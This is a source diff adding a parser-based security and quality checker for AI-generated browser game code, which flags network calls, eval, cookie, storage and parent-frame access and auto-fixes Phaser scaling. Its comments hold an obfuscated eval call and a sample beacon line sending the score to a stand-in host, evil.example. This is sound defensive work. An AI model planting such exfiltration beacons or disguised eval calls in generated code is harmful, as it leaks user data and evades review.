@@ -0,0 +1,311 @@
+/**
+ * Code Analyzer
+ *
+ * Parser-based checks for generated game code. The regex validators
+ * (engineValidators.js, outputValidator.js) can be fooled by a mention in a
+ * comment or string literal, and miss calls spelled another way
+ * (`window['ev' + 'al'](…)`). This pulls the inline scripts out of the HTML,
+ * parses them with acorn and looks at real call sites and property accesses:
+ *
+ *   security   — network APIs, eval / Function / string timers, storage,
+ *                cookies, parent-frame access, dynamic <script> creation,
+ *                src / href pointed at another site
+ *   callSites  — every called or constructed name ("new Phaser.Game",
+ *                "requestAnimationFrame", "this.scene.restart")
+ *   phaser     — Phaser game configs and whether they scale responsively
+ *   restart    — whether anything restarts or resets the game
+ *
+ * autoFixGameCode applies the fixes that are deterministic (a missing
+ * touch-action rule, a Phaser config without a responsive scale mode) and
+ * reports what it changed. Scripts that don't parse leave `parsed: false`, and
+ * callers fall back to their regex checks.
+ */
+
+import * as acorn from 'acorn';
+import * as walk from 'acorn-walk';
+
+const SCRIPT_RE = /<script\b([^>]*)>([\s\S]*?)<\/script\s*>/gi;
+const JS_TYPES = new Set(['', 'text/javascript', 'application/javascript', 'text/ecmascript', 'module']);
+const CDN_HOSTS =
+  /^https?:\/\/(?:cdn\.jsdelivr\.net|cdnjs\.cloudflare\.com|unpkg\.com|fonts\.(?:googleapis|gstatic)\.com)\//i;
+const GLOBAL_PREFIXES = new Set(['window', 'self', 'globalThis']);
+const STORAGE_GLOBALS = new Set(['localStorage', 'sessionStorage', 'indexedDB']);
+const PARENT_FRAMES = new Set(['parent', 'top', 'opener']);
+// Where an external URL means a request (src) or a navigation (href) the sandbox shouldn't make
+const URL_PROPERTIES = { src: 'external script source', href: 'external navigation' };
+const RESTART_NAME = /^(?:restart\w*|reset\w*|playAgain|tryAgain|newGame|startOver|retry\w*)$/i;
+const RESPONSIVE_SCALE_MODES = new Set(['Phaser.Scale.FIT', 'Phaser.Scale.ENVELOP', 'Phaser.Scale.RESIZE']);
+
+const SCALE_FIX = 'scale: { mode: Phaser.Scale.FIT, autoCenter: Phaser.Scale.CENTER_BOTH }';
+const TOUCH_ACTION_STYLE = '<style>canvas { touch-action: none; }</style>';
+
+/**
+ * The inline scripts in a page (JavaScript only — JSON data blocks and src-only tags are skipped).
+ * @param {string} html
+ * @returns {Array<{ code: string, offset: number, isModule: boolean }>} offset = where the script body starts in html
+ */
+export function extractInlineScripts(html) {
+  const scripts = [];
+  for (const match of String(html || '').matchAll(SCRIPT_RE)) {
+    const [whole, attrs, body] = match;
+    const type = (attrs.match(/\btype\s*=\s*["']?([^"'\s>]+)/i)?.[1] || '').toLowerCase();
+    if (!JS_TYPES.has(type) || !body.trim()) continue;
+    scripts.push({ code: body, offset: match.index + whole.indexOf('>') + 1, isModule: type === 'module' });
+  }
+  return scripts;
+}
+
+/** A string the code spells out statically: 'a', `a`, 'a' + 'b'. Null when it depends on runtime values. */
+function staticString(node) {
+  if (!node) return null;
+  if (node.type === 'Literal' && typeof node.value === 'string') return node.value;
+  if (node.type === 'TemplateLiteral' && node.expressions.length === 0) return node.quasis[0].value.cooked;
+  if (node.type === 'BinaryExpression' && node.operator === '+') {
+    const left = staticString(node.left);
+    const right = staticString(node.right);
+    return left !== null && right !== null ? left + right : null;
+  }
+  return null;
+}
+
+/** The part of a string the code spells out up front: 'https://x.example/?s=' + score → 'https://x.example/?s='. */
+function staticPrefix(node) {
+  if (!node) return null;
+  if (node.type === 'TemplateLiteral') return node.quasis[0].value.cooked;
+  if (node.type === 'BinaryExpression' && node.operator === '+') return staticPrefix(node.left);
+  return staticString(node);
+}
+
+/** Dotted path for an identifier or member chain ("this.scene.restart"), or null if part of it is dynamic. */
+function memberPath(node) {
+  if (node.type === 'Identifier') return node.name;
+  if (node.type === 'ThisExpression') return 'this';
+  if (node.type === 'MemberExpression') {
+    const object = memberPath(node.object);
+    const property = node.computed ? staticString(node.property) : node.property.name;
+    return object && property ? `${object}.${property}` : null;
+  }
+  return null;
+}
+
+/** Drop a leading window./self./globalThis. so `window.fetch` and `fetch` read the same. */
+function withoutGlobal(path) {
+  const dot = path.indexOf('.');
+  return dot > 0 && GLOBAL_PREFIXES.has(path.slice(0, dot)) ? path.slice(dot + 1) : path;
+}
+
+function isExternalUrl(url) {
+  return /^(?:https?|wss?):\/\//i.test(url) && !CDN_HOSTS.test(url);
+}
+
+function findProperty(objectNode, name) {
+  return objectNode.properties.find(
+    (prop) => prop.type === 'Property' && (prop.key.name === name || staticString(prop.key) === name),
+  );
+}
+
+function analyzeScript(ast, script, result, addSecurity) {
+  const declarations = new Map();
+  const phaserConfigRefs = [];
+
+  walk.full(ast, (node) => {
+    if (node.type === 'VariableDeclarator' && node.id.type === 'Identifier' && node.init) {
+      declarations.set(node.id.name, node.init);
+    }
+    // Only references reach here (declaration names are patterns), so this is a restart
+    // function handed to a listener: addEventListener('click', restartGame)
+    if (node.type === 'Identifier' && RESTART_NAME.test(node.name)) {
+      result.restart.handlers += 1;
+    }
+
+    if (node.type === 'CallExpression' || node.type === 'NewExpression') {
+      const path = memberPath(node.callee);
+      if (!path) return;
+      const name = withoutGlobal(path);
+      const callName = node.type === 'NewExpression' ? `new ${name}` : name;
+      result.callSites.add(callName);
+
+      const firstArg = node.arguments[0];
+      const target = staticString(firstArg);
+      if (name === 'fetch') {
+        if (target === null) addSecurity('dynamic fetch', callName, node);
+        else if (isExternalUrl(target)) addSecurity('external fetch', target, node);
+      } else if (name === 'XMLHttpRequest') {
+        addSecurity('XHR request', callName, node);
+      } else if (name === 'navigator.sendBeacon') {
+        addSecurity('sendBeacon', callName, node);
+      } else if (name === 'WebSocket' || name === 'EventSource') {
+        if (target === null || isExternalUrl(target)) addSecurity(`external ${name}`, target || callName, node);
+      } else if (name === 'RTCPeerConnection') {
+        addSecurity('WebRTC', callName, node);
+      } else if (name === 'eval') {
+        addSecurity('eval()', callName, node);
+      } else if (name === 'Function') {
+        addSecurity('new Function()', callName, node);
+      } else if ((name === 'setTimeout' || name === 'setInterval') && target !== null) {
+        addSecurity('string timer', callName, node);
+      } else if (name === 'document.createElement' && target?.toLowerCase() === 'script') {
+        addSecurity('dynamic script creation', callName, node);
+      } else if (name.endsWith('.setAttribute') && Object.hasOwn(URL_PROPERTIES, target?.toLowerCase())) {
+        const url = staticPrefix(node.arguments[1]);
+        if (url !== null && isExternalUrl(url)) addSecurity(URL_PROPERTIES[target.toLowerCase()], url, node);
+      } else if (callName === 'new Phaser.Game') {
+        phaserConfigRefs.push(firstArg);
+      } else if (name === 'location.reload' || RESTART_NAME.test(name.split('.').pop())) {
+        result.restart.callSites += 1;
+      }
+    }
+
+    // beacon.src = 'https://evil.example/log?score=' + score
+    if (node.type === 'AssignmentExpression' && node.left.type === 'MemberExpression') {
+      const property = node.left.computed ? staticString(node.left.property) : node.left.property.name;
+      const url = staticPrefix(node.right);
+      if (Object.hasOwn(URL_PROPERTIES, property) && url !== null && isExternalUrl(url)) {
+        addSecurity(URL_PROPERTIES[property], url, node);
+      }
+    }
+
+    if (node.type === 'MemberExpression') {
+      const path = memberPath(node);
+      if (!path) return;
+      const [head, second] = path.split('.');
+      if (GLOBAL_PREFIXES.has(head) && PARENT_FRAMES.has(second)) addSecurity('parent frame access', path, node);
+      if (path === 'document.cookie' || path === 'window.document.cookie') addSecurity('cookie access', path, node);
+      if (GLOBAL_PREFIXES.has(head) && STORAGE_GLOBALS.has(second)) addSecurity('storage access', path, node);
+    }
+    if (node.type === 'Identifier' && STORAGE_GLOBALS.has(node.name)) {
+      addSecurity('storage access', node.name, node);
+    }
+  });
+
+  for (const ref of phaserConfigRefs) {
+    const config = ref?.type === 'Identifier' ? declarations.get(ref.name) : ref;
+    if (config?.type !== 'ObjectExpression') {
+      result.phaser.games.push({ offset: null, responsiveScale: null, scale: null });
+      continue;
+    }
+    const scaleProp = findProperty(config, 'scale');
+    const scale = scaleProp?.value.type === 'ObjectExpression' ? scaleProp.value : null;
+    const modeProp = scale && findProperty(scale, 'mode');
+    const mode = modeProp ? memberPath(modeProp.value) : null;
+    result.phaser.games.push({
+      offset: script.offset + config.start + 1,
+      responsiveScale: !!(mode && RESPONSIVE_SCALE_MODES.has(mode)) || !!(scale && findProperty(scale, 'autoCenter')),
+      scale: scaleProp
+        ? {
+            offset: scale ? script.offset + scale.start + 1 : null,
+            hasMode: !!modeProp,
+            hasAutoCenter: !!(scale && findProperty(scale, 'autoCenter')),
+          }
+        : null,
+    });
+  }
+}
+
+/**
+ * Parse and analyze the inline scripts of a generated game.
+ * @param {string} html
+ * @returns {{
+ *   parsed: boolean,
+ *   scriptCount: number,
+ *   parseErrors: string[],
+ *   security: Array<{ reason: string, detail: string, offset: number, end: number }>,
+ *   callSites: Set<string>,
+ *   phaser: { games: Array<{ offset: number|null, responsiveScale: boolean|null, scale: object|null }>, responsiveScale: boolean },
+ *   restart: { callSites: number, handlers: number, present: boolean },
+ *   codeWithoutComments: string,
+ * }}
+ */
+export function analyzeGameCode(html) {
+  const source = String(html || '');
+  const result = {
+    parsed: true,
+    scriptCount: 0,
+    parseErrors: [],
+    security: [],
+    callSites: new Set(),
+    phaser: { games: [], responsiveScale: false },
+    restart: { callSites: 0, handlers: 0, present: false },
+    codeWithoutComments: source,
+  };
+  const comments = [];
+
+  for (const script of extractInlineScripts(source)) {
+    result.scriptCount += 1;
+    let ast;
+    try {
+      ast = acorn.parse(script.code, {
+        ecmaVersion: 'latest',
+        sourceType: script.isModule ? 'module' : 'script',
+        allowReturnOutsideFunction: true,
+        allowHashBang: true,
+        onComment: (_block, _text, start, end) => comments.push([script.offset + start, script.offset + end]),
+      });
+    } catch (err) {
+      result.parsed = false;
+      result.parseErrors.push(err.message);
+      continue;
+    }
+    const seen = new Set();
+    analyzeScript(ast, script, result, (reason, detail, node) => {
+      if (seen.has(`${reason}:${node.start}`)) return;
+      seen.add(`${reason}:${node.start}`);
+      result.security.push({ reason, detail, offset: script.offset + node.start, end: script.offset + node.end });
+    });
+  }
+
+  // Blank out comments (keeping offsets) so regex rules only see real code
+  for (const [start, end] of comments.sort((a, b) => b[0] - a[0])) {
+    result.codeWithoutComments =
+      result.codeWithoutComments.slice(0, start) +
+      result.codeWithoutComments.slice(start, end).replace(/[^\n]/g, ' ') +
+      result.codeWithoutComments.slice(end);
+  }
+  result.phaser.responsiveScale =
+    result.phaser.games.length > 0 && result.phaser.games.every((g) => g.responsiveScale !== false);
+  result.restart.present = result.restart.callSites > 0 || result.restart.handlers > 0;
+  return result;
+}
+
+/**
+ * Apply the deterministic fixes: a Phaser config gets a responsive scale mode,
+ * and a canvas game gets `touch-action: none` so swipes don't scroll the page.
+ * @param {string} html
+ * @param {ReturnType<typeof analyzeGameCode>} [analysis] - Reuse an analysis of this exact html
+ * @returns {{ code: string, fixes: string[] }}
+ */
+export function autoFixGameCode(html, analysis = analyzeGameCode(html)) {
+  if (!html || typeof html !== 'string') return { code: html, fixes: [] };
+  const edits = [];
+  const fixes = [];
+
+  for (const game of analysis.phaser.games) {
+    if (game.offset === null || game.responsiveScale) continue;
+    if (!game.scale) {
+      edits.push({ at: game.offset, insert: ` ${SCALE_FIX},` });
+    } else if (game.scale.offset !== null && !game.scale.hasMode) {
+      // An explicit non-responsive mode (or a scale config built elsewhere) is left alone
+      const missing = ['mode: Phaser.Scale.FIT', !game.scale.hasAutoCenter && 'autoCenter: Phaser.Scale.CENTER_BOTH'];
+      edits.push({ at: game.scale.offset, insert: ` ${missing.filter(Boolean).join(', ')},` });
+    } else {
+      continue;
+    }
+    if (!fixes.includes('phaser-scale-fit')) fixes.push('phaser-scale-fit');
+  }
+
+  const isCanvasGame =
+    analysis.phaser.games.length > 0 || analysis.callSites.has('new THREE.WebGLRenderer') || /<canvas\b/i.test(html);
+  if (isCanvasGame && !/touch-action\s*:\s*none/i.test(html)) {
+    const headClose = html.search(/<\/head>/i);
+    const firstScript = html.search(/<script\b/i);
+    const at = headClose >= 0 ? headClose : firstScript >= 0 ? firstScript : 0;
+    edits.push({ at, insert: `${TOUCH_ACTION_STYLE}\n` });
+    fixes.push('touch-action-none');
+  }
+
+  let code = html;
+  for (const { at, insert } of edits.sort((a, b) => b.at - a.at)) {
+    code = code.slice(0, at) + insert + code.slice(at);
+  }
+  return { code, fixes };
+}